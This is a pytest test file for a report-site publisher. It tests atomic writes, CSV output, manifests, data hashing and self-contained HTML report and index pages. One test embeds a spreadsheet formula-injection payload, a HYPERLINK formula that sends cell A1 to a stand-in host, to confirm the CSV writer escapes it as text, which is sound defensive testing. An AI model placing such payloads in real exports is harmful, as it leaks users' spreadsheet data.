"""The report site: self-contained pages, index links, manifest, atomic writes. No kernels are started."""
from __future__ import annotations

import hashlib
import json
import os
import platform
import re
import shutil
import subprocess
from html.parser import HTMLParser
from urllib.parse import unquote

import nbformat
import pandas as pd
import pytest

from analysis.core.files import atomic_write
from analysis.publish import site
from analysis.errors import ParameterError

# a 1 x 1 PNG
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
EXTERNAL = re.compile(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//|@import|import\(\s*["']https?://""", re.I)


class Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs, self.srcs = [], []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "href" in attrs:
            self.hrefs.append(attrs["href"])
        if "src" in attrs:
            self.srcs.append(attrs["src"])


def links(page: str) -> Links:
    parser = Links()
    parser.feed(page)
    return parser


def executed_notebook():
    """An executed notebook built by hand: a markdown cell, a printing cell and a figure cell."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# 收入增长"),
        nbformat.v4.new_code_cell("print('人均纯收入')  # SOURCE-MARKER", execution_count=1, outputs=[
            nbformat.v4.new_output("stream", name="stdout", text="人均纯收入 12550\n")]),
        nbformat.v4.new_code_cell("plot()  # SOURCE-MARKER-2", execution_count=2, outputs=[
            nbformat.v4.new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"})]),
    ]
    return nb


# ----------------------------------------------------------------------------------------- atomic writes
def test_atomic_write_replaces_whole_file(tmp_path):
    target = tmp_path / "index.html"
    atomic_write(target, "old")
    atomic_write(target, "新内容")
    assert target.read_text(encoding="utf-8") == "新内容"
    assert [p.name for p in tmp_path.iterdir()] == ["index.html"]  # no temporary file left


@pytest.mark.parametrize("crash_in", ["fsync", "replace"])
def test_crash_during_write_leaves_the_old_file(tmp_path, monkeypatch, crash_in):
    target = tmp_path / "runs.csv"
    target.write_text("previous complete report", encoding="utf-8")

    def crash(*args, **kwargs):
        raise KeyboardInterrupt("killed")
    monkeypatch.setattr(os, crash_in, crash)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, "half of a new report")
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "previous complete report"
    assert [p.name for p in tmp_path.iterdir()] == ["runs.csv"]


def test_runs_csv_round_trip(tmp_path):
    runs = pd.DataFrame([{"region": "北岭县", "notebook": "01-a", "status": "failed", "duration_s": 1.5,
                          "error": "ValueError: x, y", "failing_cell": "f(1)", "html": "北岭县/01-a.html",
                          "attempts": 1}])
    path = site.write_runs_csv(tmp_path, runs)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheet programs then read UTF-8
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert back.to_dict("records") == runs.to_dict("records")
    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")


def test_runs_csv_cells_that_start_like_a_formula_stay_text(tmp_path):
    runs = pd.DataFrame([{"region": '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "notebook": "01-a",
                          "status": "failed", "duration_s": 1.5, "error": "-1+1", "failing_cell": "@SUM(1+1)",
                          "html": "+1+1村/01-a.html", "attempts": 1}])
    path = site.write_runs_csv(tmp_path, runs)
    raw = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    for column in ("region", "error", "failing_cell", "html"):
        assert raw[column].iloc[0] == "'" + runs[column].iloc[0]   # a spreadsheet shows it as text
    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")


# ------------------------------------------------------------------------------------------- manifest
def test_data_hash_covers_parquet_paths_and_contents(tmp_path):
    data = tmp_path / "processed"
    (data / "households" / "county=甲").mkdir(parents=True)
    (data / "households" / "county=甲" / "part-0.parquet").write_bytes(b"AAA")
    (data / "b.parquet").write_bytes(b"BB")
    # the documented recipe, for these two files in sorted path order
    expected = hashlib.sha256(
        b"b.parquet\0" + hashlib.sha256(b"BB").hexdigest().encode() + b"\n"
        + "households/county=甲/part-0.parquet".encode() + b"\0" + hashlib.sha256(b"AAA").hexdigest().encode()
        + b"\n").hexdigest()
    assert site.data_hash(data) == (expected, 2)

    (data / "notes.csv").write_text("not parquet")
    (data / ".b.parquet.123.tmp").write_bytes(b"temporary file of an interrupted write")
    assert site.data_hash(data) == (expected, 2)
    (data / "b.parquet").write_bytes(b"BC")
    changed, _ = site.data_hash(data)
    (data / "b.parquet").rename(data / "c.parquet")
    renamed, _ = site.data_hash(data)
    assert len({expected, changed, renamed}) == 3


def test_manifest_has_every_key(tmp_path):
    from datetime import datetime, timezone
    start = datetime(2025, 3, 1, 8, 0, tzinfo=timezone.utc)
    manifest = site.build_manifest(data_dir=tmp_path, data_digest="abc", data_files=2, parameters={"lang": "zh"},
                                   notebooks={"01-a": "h"}, code_hash="c", started=start, finished=start)
    assert set(manifest) == set(site.MANIFEST_KEYS)
    assert manifest["started"] == "2025-03-01T08:00:00+00:00"
    assert manifest["python"] == platform.python_version()
    assert manifest["packages"]["pandas"] == pd.__version__
    assert {"numpy", "statsmodels", "pyfixest", "papermill"} <= set(manifest["packages"])
    path = site.write_manifest(tmp_path, manifest)
    assert json.loads(path.read_text(encoding="utf-8")) == manifest


def test_package_versions_marks_absent_packages():
    versions = site.package_versions(("pandas", "no-such-package-here"))
    assert versions == {"python": platform.python_version(), "pandas": pd.__version__,
                        "no-such-package-here": "not installed"}


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_commit(tmp_path):
    assert site.git_commit(tmp_path) == "unknown"  # not a checkout
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@x"}
    git = ["git", "-C", str(tmp_path)]
    subprocess.run(git + ["init", "-q"], check=True, env=env)
    (tmp_path / "f.txt").write_text("1")
    subprocess.run(git + ["add", "f.txt"], check=True, env=env)
    subprocess.run(git + ["commit", "-q", "-m", "c"], check=True, env=env)
    head = subprocess.run(git + ["rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
    assert site.git_commit(tmp_path) == head
    (tmp_path / "f.txt").write_text("2")
    assert site.git_commit(tmp_path) == head + "-dirty"


# --------------------------------------------------------------------------------------- region pages
def test_page_is_self_contained_with_code_hidden():
    footer = site.page_footer("zh", data_digest="d" * 64, parameters={"region": "北岭县"}, commit="abc",
                              rendered="2025-03-01T08:00:00+08:00")
    banner = site.page_banner("en", status="timeout", error="CellTimeoutError: x", failing_cell="fit()")
    page = site.notebook_html(executed_notebook(), lang="zh", title="北岭县 · 01-a", footer=footer,
                              banner=banner)
    assert "人均纯收入 12550" in page and "收入增长" in page
    assert "SOURCE-MARKER" not in page and "In&nbsp;[" not in page  # no code input, no prompts
    assert f"data:image/png;base64,{PNG}" in page  # figure embedded
    assert not EXTERNAL.search(page), EXTERNAL.search(page)
    assert all(not s.startswith(("http", "//")) for s in links(page).srcs)
    fonts = '"Noto Sans CJK SC", "Noto Sans SC", "Source Han Sans SC", "Microsoft YaHei", "PingFang SC", sans-serif'
    assert re.search(r"body[^{]*\{\s*font-family:\s*" + re.escape(fonts), page)
    assert '<html lang="zh">' in page and "<title>北岭县 · 01-a</title>" in page
    body = page[page.index("<body"):]
    assert body.index("run-banner") < body.index("人均纯收入 12550") < body.index("run-footer")
    assert page.rindex("</main>") < page.index('<footer class="run-footer">') < page.rindex("</body>")
    assert "d" * 64 in page and "北岭县" in footer and "timed out" in banner


def test_inject_without_body_tag():
    assert site.inject("x", top="<a>", bottom="<b>") == "<a>x<b>"
    assert site.inject("<body class='c'>x</body></body>", top="T", bottom="B") == \
        "<body class='c'>Tx</body>B</body>"


# ----------------------------------------------------------------------------------------------- index
def test_index_links_resolve_and_scores_show(tmp_path):
    for region in ("北岭县", "南山 县"):
        (tmp_path / region).mkdir()
        (tmp_path / region / "01-income.html").write_text("page")
    pages = pd.DataFrame({"region": ["北岭县", "北岭县", "南山 县"],
                          "notebook": ["01-income", "02-jobs", "01-income"], "status": ["ok", "failed", "skipped"],
                          "html": ["北岭县/01-income.html", "北岭县/02-jobs.html", "南山 县/01-income.html"]})
    runs = pd.DataFrame([{"region": "北岭县", "notebook": "02-jobs", "status": "failed", "duration_s": 2.25,
                          "error": "KeyError: 'year'", "failing_cell": "df['year']", "html": "北岭县/02-jobs.html",
                          "attempts": 1}])
    scores = pd.DataFrame({"region": ["北岭县", "南山 县"], "composite score": [81.234, 62.5], "rank": [1, 2],
                           "rank interval": ["1-2", "2-3"], "grade": ["好", "一般"]})
    manifest = {"data_hash": "h" * 64, "data_dir": "/d", "data_files": 3, "code_hash": "c", "git_commit": "g",
                "started": "s", "finished": "f", "parameters": {"lang": "en"}, "notebooks": {"01-income": "n"},
                "packages": {"pandas": pd.__version__}}
    index = site.write_index(tmp_path, runs=runs, pages=pages, manifest=manifest, lang="en", scores=scores)
    page = index.read_text(encoding="utf-8")

    hrefs = links(page).hrefs
    assert sorted(unquote(h) for h in hrefs) == ["北岭县/01-income.html", "南山 县/01-income.html"]
    assert all((tmp_path / unquote(h)).is_file() for h in hrefs)  # 02-jobs.html is missing: no link
    assert not EXTERNAL.search(page) and not links(page).srcs
    for text in ("composite score", "81.23", "62.50", "1-2", "一般", "KeyError: &#39;year&#39;", "2.2",
                 "h" * 64, "Reports by region", "unchanged (kept)"):
        assert text in page, text
    assert '<td class="num" data-sort="2">2</td>' in page and '<td class="num" data-sort="81.234">81.23</td>' in page
    assert page.count("<table class=\"sortable\"") == 4 and "addEventListener(\"click\"" in page


def test_index_without_runs_or_scores(tmp_path):
    empty = pd.DataFrame(columns=list(site.RUN_COLUMNS))
    pages = pd.DataFrame(columns=["region", "notebook", "status", "html"])
    manifest = {"data_hash": "", "data_dir": "", "data_files": 0, "code_hash": "", "git_commit": "", "started": "",
                "finished": "", "parameters": {}, "notebooks": {}, "packages": {}}
    page = site.render_index(runs=empty, pages=pages, manifest=manifest, lang="zh")
    assert "尚无报告" in page
    with pytest.raises(ParameterError, match="region"):
        site.render_index(runs=empty, pages=pages, manifest=manifest, scores=pd.DataFrame({"x": [1]}))


def test_labels_have_the_same_keys_in_both_languages():
    def keys(d, prefix=""):
        return {prefix + k for k in d} | {x for k, v in d.items() if isinstance(v, dict) for x in keys(v, k + ".")}
    assert keys(site.labels("zh")) == keys(site.labels("en"))
    assert set(site.labels("zh")["status_names"]) == {"ok", "failed", "skipped", "timeout", "killed"}
    with pytest.raises(ParameterError, match="zh"):
        site.labels("fr")
